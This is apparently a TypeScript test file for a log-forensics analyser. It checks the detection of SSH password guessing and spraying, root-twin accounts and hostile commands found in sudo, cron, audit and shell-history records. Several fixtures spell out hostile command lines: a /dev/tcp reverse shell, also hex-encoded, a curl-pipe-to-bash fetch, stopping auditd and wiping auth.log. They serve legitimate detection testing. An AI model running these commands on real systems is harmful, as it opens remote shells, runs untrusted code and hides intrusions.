/** Logs of hosts: the commands they record are judged as typed ones are, guessing is told with its records, and the rest is said. */
import { expect, test } from 'vitest';
import { judgeArtifact, readArtifact } from '../../../analysis/forensics/index.ts';

const judge = (lines: string[], name = 'auth.log') =>
  judgeArtifact(readArtifact(Buffer.from(`${lines.join('\n')}\n`), name));
const at = (second: number) =>
  `Nov 28 10:${String(Math.floor(second / 60) % 60).padStart(2, '0')}:${String(second % 60).padStart(2, '0')} web1`;
const sudo = (command: string) =>
  `${at(1)} sudo: deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=${command}`;
const failed = (second: number, account: string, address: string) =>
  `${at(second)} sshd[${1000 + second}]: Failed password for ${account} from ${address} port 3000 ssh2`;
const accepted = (second: number, account: string, address: string) =>
  `${at(second)} sshd[9999]: Accepted password for ${account} from ${address} port 5000 ssh2`;
const hex = (text: string) => Buffer.from(text).toString('hex').toUpperCase();
const storm = Array.from({ length: 100 }, (_, index) =>
  failed(index, `invalid user u${index}`, `198.51.100.${index + 1}`),
);

test.each([
  ['sudo', sudo("/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1'"), 'command/reverse-shell'],
  ['sudo', sudo('/usr/bin/systemctl stop auditd'), 'command/security-tool-stopped'],
  ['cron', `${at(1)} CRON[812]: (root) CMD (curl -s http://198.51.100.7/x.sh | bash)`, 'command/fetched-and-run'],
  [
    'the audit in syslog',
    `${at(1)} audispd: type=EXECVE msg=audit(1700000000.123:4): argc=3 a0="bash" a1="-c" a2=${hex('bash -i >& /dev/tcp/198.51.100.23/4444 0>&1')}`,
    'command/reverse-shell',
  ],
])('a command that %s recorded is judged, and cited by its line', (_who, record, rule) => {
  const { findings, verdict } = judge([sudo('/bin/ls'), sudo('/bin/ls'), record]);
  expect(findings.map((finding) => [finding.rule, finding.evidence[0]?.locator])).toEqual([[rule, 'line 3']]);
  expect(verdict).not.toBe('benign');
});

test('arguments that the audit keeps in hexadecimal are read, in a log of its own too', () => {
  const record = `type=EXECVE msg=audit(1700000000.123:4): argc=3 a0="sh" a1="-c" a2=${hex('cat /dev/null > /var/log/auth.log')}`;
  expect(judge([record], 'audit.log').findings[0]).toMatchObject({
    rule: 'command/unix-log-cleared',
    severity: 'high',
  });
});

test('everyday commands of sudo and cron are benign', () => {
  const { findings, verdict } = judge([
    sudo('/usr/bin/systemctl status auditd'),
    sudo('/usr/bin/apt-get update'),
    sudo('/usr/bin/less /etc/rsyslog.conf'),
    `${at(3)} CRON[812]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)`,
    `${at(4)} CRON[812]: (root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)`,
  ]);
  expect(findings).toEqual([]);
  expect(verdict).toBe('benign');
});

test('a storm of guesses from many addresses, one of which then logs in, is a finding with both records', () => {
  const { findings, confidence, mitre_techniques } = judge([...storm, accepted(200, 'root', '198.51.100.7')]);
  const [guessed, ...others] = findings;
  expect(others).toEqual([]);
  expect(guessed?.title).toContain('logins failed, spread over');
  expect(guessed).toMatchObject({
    rule: 'login/guessed',
    severity: 'critical',
    title: expect.stringContaining('as root after 1 failure, of 100') as string,
  });
  expect(confidence).toBe(0.8);
  expect(mitre_techniques).toEqual(['T1110.001', 'T1110.003']);
  expect(guessed?.evidence.map(({ locator }) => locator)).toEqual(['line 101', 'line 7', 'line 1', 'line 2']);
});

test('guessing that nobody lets in is low, from one address or from many', () => {
  expect(judge(storm).findings.map(({ rule, severity }) => [rule, severity])).toEqual([['login/spraying', 'low']]);
  const one = Array.from({ length: 40 }, (_, index) => failed(index, 'root', '198.51.100.7'));
  expect(judge(one).findings.map(({ rule, severity }) => [rule, severity])).toEqual([['login/guessing', 'low']]);
});

test('repeated failures of one address count as often as they were, and a login after them was guessed', () => {
  const repeated = `${at(2)} sshd[3]: message repeated 5 times: [ Failed password for root from 198.51.100.7 port 22 ssh2]`;
  expect(judge([repeated, accepted(9, 'root', '198.51.100.7')]).findings[0]).toMatchObject({
    rule: 'login/guessed',
    title: expect.stringContaining('after 5 failures') as string,
  });
});

test('somebody who mistypes a password in the midst of a storm is no intruder', () => {
  const { findings } = judge([...storm, failed(150, 'root', '203.0.113.9'), accepted(160, 'root', '203.0.113.9')]);
  expect(findings.map(({ rule }) => rule)).toEqual(['login/spraying']);
});

test.each([
  ['an invalid user', (n: number) => `sshd[${n}]: Invalid user test${n} from 198.51.100.7 port 40000`],
  [
    'one who left',
    (n: number) => `sshd[${n}]: Disconnected from authenticating user root 198.51.100.7 port ${n} [preauth]`,
  ],
  ['a closed try', (n: number) => `sshd[${n}]: Connection closed by invalid user a b 198.51.100.7 port ${n} [preauth]`],
  [
    'a key for many names',
    (n: number) => `sshd[${n}]: Failed publickey for u${n} from 198.51.100.7 port 4 ssh2: RSA x`,
  ],
  ['PAM', () => 'su: pam_unix(sshd:auth): authentication failure; logname= uid=0 rhost=198.51.100.7  user=root'],
  ['postfix', () => 'postfix/smtpd[26]: warning: unknown[198.51.100.7]: SASL LOGIN authentication failed: failure'],
  [
    'dovecot',
    () =>
      'dovecot: imap-login: Disconnected (auth failed, 1 attempts): user=<a@example.com>, method=PLAIN, rip=198.51.100.7, lip=10.0.0.1, TLS',
  ],
  ['its worker', () => 'dovecot: auth-worker(24544): pam(toto,198.51.100.7): unknown user'],
])('guessing is told in the words of %s', (_who, record) => {
  const { findings, verdict } = judge(
    Array.from({ length: 8 }, (_, index) => `${at(index)} web1 ${record(index + 1)}`.replace('web1 web1', 'web1')),
  );
  expect(findings.map(({ rule, title }) => [rule, title])).toEqual([
    ['login/guessing', '8 logins from 198.51.100.7 failed'],
  ]);
  expect(verdict).toBe('suspicious');
});

test('a new name with each of four tries is guessing, four tries of one name are not', () => {
  const tries = (name: (n: number) => string) => judge([1, 2, 3, 4].map((n) => failed(n, name(n), '198.51.100.7')));
  expect(tries((n) => `u${n}`).findings).toHaveLength(1);
  expect(tries(() => 'anna')).toMatchObject({
    findings: [{ rule: 'login/few', severity: 'info', title: expect.stringMatching(/^4 logins .* too few/) as string }],
    verdict: 'benign',
  });
});

test('one try that several records tell is one, and a client that offers its keys guesses nothing', () => {
  const tries = [1, 2].flatMap((second) => [
    `${at(second)} sshd[7]: Invalid user anan from 198.51.100.7 port 3000`,
    failed(second, 'invalid user anan', '198.51.100.7'),
    `${at(second)} sshd[7]: Connection closed by invalid user anan 198.51.100.7 port 3000 [preauth]`,
  ]);
  const keys = Array.from(
    { length: 9 },
    () => `${at(5)} sshd[8]: Failed publickey for anna from 198.51.100.8 port 4 ssh2: RSA x`,
  );
  expect(judge([...tries, ...keys, accepted(9, 'anna', '198.51.100.8')])).toMatchObject({
    findings: [{ rule: 'login/few', severity: 'info' }],
    verdict: 'benign',
  });
});

test('a name that imitates the end of a record accuses nobody else, and is told', () => {
  const forged = Array.from({ length: 8 }, (_, index) =>
    failed(index, 'invalid user root from 1.1.1.1 port 22 ssh2', '198.51.100.7'),
  );
  expect(judge(forged).findings.map(({ title }) => title)).toEqual([
    '8 logins from 198.51.100.7 failed, with names made to look like a record that accuses another address',
  ]);
});

test('sessions, accepted keys and the other records of a judged event are no gap', () => {
  const key = `${at(1)} sshd[1]: Accepted publickey for anna from 198.51.100.8 port 4 ssh2: ED25519 SHA256:x`;
  const opened = `${at(2)} sshd[1]: pam_unix(sshd:session): session opened for user anna(uid=1000) by (uid=0)`;
  expect(judge([key, opened, sudo('/bin/ls')])).toMatchObject({ verdict: 'benign' });
  const call = 'type=SYSCALL msg=audit(1700000000.123:4): arch=c000003e syscall=59 success=yes exe="/bin/ls"';
  const run = 'type=EXECVE msg=audit(1700000000.123:4): argc=1 a0="ls"';
  expect(judge([call, run], 'audit.log').verdict).toBe('benign');
  expect(judge([call.replace(':4)', ':5)'), run], 'audit.log').verdict).toBe('inconclusive');
});

test('an account that is made with the number of root is told', () => {
  const made = (uid: number) =>
    `${at(3)} useradd[90]: new user: name=x, UID=${uid}, GID=0, home=/root, shell=/bin/bash`;
  expect(judge([made(0)]).findings).toMatchObject([{ rule: 'account/root-twin', severity: 'high' }]);
  expect(judge([made(1001)]).findings).toEqual([]);
});

test('what is not judged of a log is said, and never clean', () => {
  const { not_checked, verdict } = judge([sudo('/bin/ls'), `${at(2)} kernel: usb 1-1: new device`]);
  expect(verdict).toBe('inconclusive');
  expect(not_checked).toContainEqual(expect.objectContaining({ what: 'what 1 of 2 records say' }));
  const long = judge([sudo(`/bin/echo ${'a'.repeat(90_000)}; systemctl stop auditd; echo ${'a'.repeat(90_000)}`)]);
  expect(long.not_checked).toContainEqual(expect.objectContaining({ what: 'the middle of 1 long lines' }));
  expect(long.verdict).not.toBe('benign');
});

test('many light findings do not push a grave one out', () => {
  const light = Array.from({ length: 400 }, (_, index) => `crontab /srv/jobs${index}`);
  const { findings, not_checked } = judge([...light, 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'], '.bash_history');
  expect(findings[0]).toMatchObject({ rule: 'command/reverse-shell' });
  expect(not_checked).toContainEqual(expect.objectContaining({ what: '101 lesser findings' }));
});

const typing = (count: number, account: string, address = '203.0.113.9') =>
  Array.from({ length: count }, (_, index) => failed(index * 6, account, address));
const told = (lines: string[]) => judge(lines).findings.map(({ rule, severity }) => [rule, severity]);

test('who mistypes a password a few times and gets in may be a user: it is told, and accuses nobody', () => {
  const mistyped = judge([...typing(3, 'anna'), accepted(62, 'anna', '203.0.113.9')]);
  expect(mistyped).toMatchObject({
    verdict: 'suspicious',
    severity: 'low',
    iocs: [],
    recommendations: [],
    findings: [{ rule: 'login/guessed', title: expect.stringContaining('so few may be mistyped') as string }],
  });
  expect(told([...typing(6, 'anna'), accepted(62, 'anna', '203.0.113.9')])).toEqual([['login/guessed', 'high']]);
});

test.each([
  ['root', typing(3, 'root'), 'root'],
  ['names that do not exist', typing(3, 'invalid user x'), 'anna'],
  ['several names', [...typing(2, 'bob'), ...typing(1, 'anna')], 'anna'],
  ['another name than the one that got in', typing(3, 'bob'), 'anna'],
])('three failures before a login are a guess for %s', (_who, lines, account) => {
  expect(told([...lines, accepted(62, account, '203.0.113.9')])).toEqual([['login/guessed', 'high']]);
});

test('failures that a login of the same account followed, or that are hours old, are over; many of them never are', () => {
  const day = (hour: number, minute: number, what: string) =>
    `Nov 28 ${String(hour).padStart(2, '0')}:${String(minute).padStart(2, '0')}:00 web1 sshd[1]: ${what} password for anna from 203.0.113.9 port 3000 ssh2`;
  const week = [8, 10, 12, 14].flatMap((hour) => [
    day(hour, 0, 'Failed'),
    day(hour, 1, 'Failed'),
    day(hour, 2, 'Accepted'),
  ]);
  expect(told(week).filter(([rule]) => rule === 'login/guessed')).toEqual([]);
  const minutes = [0, 20, 40].flatMap((second) => [
    failed(second, 'anna', '203.0.113.9'),
    accepted(second + 9, 'anna', '203.0.113.9'),
  ]);
  expect(told(minutes)).toEqual([['login/few', 'info']]);
  const hours = [8, 9, 10].map((hour) => day(hour, 0, 'Failed'));
  expect(told([...hours, day(10, 1, 'Accepted')])).toEqual([['login/few', 'info']]);
  const slow = Array.from({ length: 23 }, (_, hour) => day(hour, 0, 'Failed'));
  expect(told([...slow, day(23, 0, 'Accepted')])).toEqual([['login/guessed', 'high']]);
});

test('typing that is told is no excuse: a guess after it is told as one', () => {
  const guesses = Array.from({ length: 9 }, (_, index) => failed(100 + index, 'anna', '203.0.113.9'));
  const both = [
    ...typing(3, 'anna'),
    accepted(62, 'anna', '203.0.113.9'),
    ...guesses,
    accepted(130, 'anna', '203.0.113.9'),
  ];
  expect(judge(both).findings[0]).toMatchObject({
    severity: 'high',
    title: expect.stringContaining('as anna after 9 failures;') as string,
  });
});

test('who guessed a password is named for others to judge, where he has a public address', () => {
  const from = (address: string) => judge([...typing(12, 'root', address), accepted(99, 'root', address)]);
  expect(from('203.0.113.9')).toMatchObject({ iocs: [{ type: 'ip', value: '203.0.113.9' }] });
  expect(from('203.0.113.9').recommendations.map(({ action }) => action)).toEqual([
    'Reset the password and end the sessions of the account that was guessed',
    'Block the attacking addresses at the edge',
  ]);
  expect(from('203.0.113.9').recommendations.map(({ target }) => target)).toEqual(['root', '203.0.113.9']);
  expect(from('10.0.0.9').recommendations.map(({ target }) => target)).toEqual(['root']);
  expect(from('10.0.0.9').iocs).toEqual([]);
  expect(from('10.0.0.9').recommendations).toHaveLength(1);
  expect(judge(typing(40, 'root')).iocs).toEqual([]);
});

test('sshd that ends a connection after too many tries tells of one more, and what journalctl writes between records is none', () => {
  const most = Array.from(
    { length: 8 },
    (_, index) =>
      `${at(index)} sshd[${index}]: error: maximum authentication attempts exceeded for root from 203.0.113.9 port 5 ssh2 [preauth]`,
  );
  const { findings, not_checked } = judge(['-- Logs begin at Mon 2026-11-23 --', ...most, '-- Reboot --']);
  expect(findings.map(({ title }) => title)).toEqual(['8 logins from 203.0.113.9 failed']);
  expect(JSON.stringify(not_checked)).not.toContain('no syslog record');
});
